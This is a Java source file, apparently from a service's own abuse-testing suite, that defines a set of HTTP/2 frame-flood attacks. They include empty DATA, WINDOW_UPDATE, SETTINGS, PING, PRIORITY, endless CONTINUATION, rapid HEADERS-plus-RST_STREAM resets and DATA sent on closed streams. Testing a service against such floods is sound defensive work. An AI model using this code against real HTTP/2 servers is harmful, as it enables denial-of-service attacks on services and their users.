package dev.dueline.system.abuse.attack;

import static dev.dueline.system.abuse.wire.FrameType.CANCEL;
import static dev.dueline.system.abuse.wire.FrameType.CONTINUATION;
import static dev.dueline.system.abuse.wire.FrameType.DATA;
import static dev.dueline.system.abuse.wire.FrameType.END_HEADERS;
import static dev.dueline.system.abuse.wire.FrameType.HEADERS;
import static dev.dueline.system.abuse.wire.FrameType.NO_FLAGS;
import static dev.dueline.system.abuse.wire.FrameType.PADDED;
import static dev.dueline.system.abuse.wire.FrameType.PING;
import static dev.dueline.system.abuse.wire.FrameType.PRIORITY;
import static dev.dueline.system.abuse.wire.FrameType.RST_STREAM;
import static dev.dueline.system.abuse.wire.FrameType.SETTINGS;
import static dev.dueline.system.abuse.wire.FrameType.UNKNOWN;
import static dev.dueline.system.abuse.wire.FrameType.WINDOW_UPDATE;

import dev.dueline.system.abuse.wire.Frames;
import dev.dueline.system.abuse.wire.HeaderBlock;
import dev.dueline.system.abuse.wire.Paths;
import dev.dueline.system.abuse.wire.RawHttp2;
import dev.dueline.system.abuse.wire.Trait;
import java.io.IOException;
import java.util.List;

/** Frames that carry nothing, as fast as they are taken. */
final class FrameFloods {
  private static final byte[] NOTHING = {};

  /** Of an attacker whose connection the service has ended. */
  private static final String CUT = "connection ";

  /** SETTINGS_MAX_CONCURRENT_STREAMS, 100. */
  private static final byte[] SETTING = {0, 3, 0, 0, 0, 100};

  /** Depends on stream 0, with a weight of 16. */
  private static final byte[] PRIORITIES = {0, 0, 0, 0, 15};

  private FrameFloods() {}

  static List<Attack> all() {
    return List.of(
        onCall("frames: empty DATA", DATA, NO_FLAGS, NOTHING),
        onCall("frames: DATA of padding", DATA, PADDED, new byte[] {3, 0, 0, 0}),
        onCall("frames: WINDOW_UPDATE by 1, stream", WINDOW_UPDATE, NO_FLAGS, Frames.number(1)),
        onConnection("frames: WINDOW_UPDATE by 1", WINDOW_UPDATE, Frames.number(1)),
        onConnection("frames: SETTINGS", SETTINGS, SETTING),
        onConnection("frames: empty SETTINGS", SETTINGS, NOTHING),
        onConnection("frames: PING", PING, new byte[8]),
        onConnection("frames: unknown types", UNKNOWN, NOTHING),
        Attack.of("frames: PRIORITY", FrameFloods::priority),
        Attack.of("frames: empty CONTINUATION", attacker -> continuation(attacker, NOTHING)),
        Attack.of(
            "frames: endless CONTINUATION",
            attacker -> continuation(attacker, new HeaderBlock().with("x", "y").toBytes())),
        Attack.of("frames: RST_STREAM of new calls", attacker -> resets(attacker, "")),
        Attack.of(
            "frames: RST_STREAM, known caller",
            attacker -> resets(attacker, attacker.target().token())),
        Attack.of("frames: DATA of closed streams", FrameFloods::dataOfClosed));
  }

  private static Attack onConnection(String name, int type, byte[] payload) {
    byte[] bytes = Frames.repeated(type, NO_FLAGS, 0, payload);
    return Attack.of(
            name, attacker -> attacker.repeatedly(connection -> flood(attacker, connection, bytes)))
        .until(CUT);
  }

  /** On a call whose message does not come. */
  private static Attack onCall(String name, int type, int flags, byte[] payload) {
    return Attack.of(
            name,
            attacker ->
                attacker.repeatedly(
                    connection -> {
                      String token = attacker.target().token();
                      int stream = connection.begin(HeaderBlock.call(Paths.SCHEDULE, token));
                      flood(attacker, connection, Frames.repeated(type, flags, stream, payload));
                    }))
        .until(CUT);
  }

  private static void flood(Attacker attacker, RawHttp2 connection, byte[] bytes)
      throws IOException {
    while (!attacker.isOver() && connection.ending().isEmpty()) {
      connection.write(bytes);
      attacker.counts().add("64 KiB");
    }
  }

  private static void priority(Attacker attacker) throws InterruptedException {
    attacker.repeatedly(
        connection -> {
          while (!attacker.isOver() && connection.ending().isEmpty()) {
            Frames frames = new Frames();
            for (int i = 0; i < 1_000; i++) {
              frames.add(PRIORITY, NO_FLAGS, connection.newStream(), PRIORITIES);
            }
            connection.write(frames.toBytes());
          }
        });
  }

  private static void continuation(Attacker attacker, byte[] block) throws InterruptedException {
    attacker.repeatedly(
        connection -> {
          int stream = connection.begin(HeaderBlock.call(Paths.SCHEDULE).toBytes(), NO_FLAGS);
          flood(attacker, connection, Frames.repeated(CONTINUATION, NO_FLAGS, stream, block));
        });
  }

  private static void resets(Attacker attacker, String token) throws InterruptedException {
    byte[] block = HeaderBlock.call(Paths.SCHEDULE, token).toBytes();
    attacker.repeatedly(
        connection -> {
          while (!attacker.isOver() && connection.ending().isEmpty()) {
            Frames frames = new Frames();
            for (int i = 0; i < 200; i++) {
              int stream = connection.newStream();
              frames.add(HEADERS, END_HEADERS, stream, block);
              frames.add(RST_STREAM, NO_FLAGS, stream, Frames.number(CANCEL));
            }
            connection.write(frames.toBytes());
          }
        });
  }

  private static void dataOfClosed(Attacker attacker) throws InterruptedException {
    attacker.repeatedly(
        connection -> {
          int stream = connection.begin(HeaderBlock.call(Paths.SCHEDULE));
          connection.send(RST_STREAM, NO_FLAGS, stream, Frames.number(CANCEL));
          flood(attacker, connection, Frames.repeated(DATA, NO_FLAGS, stream, NOTHING));
        },
        Trait.NEVER_REPLENISHES);
  }
}
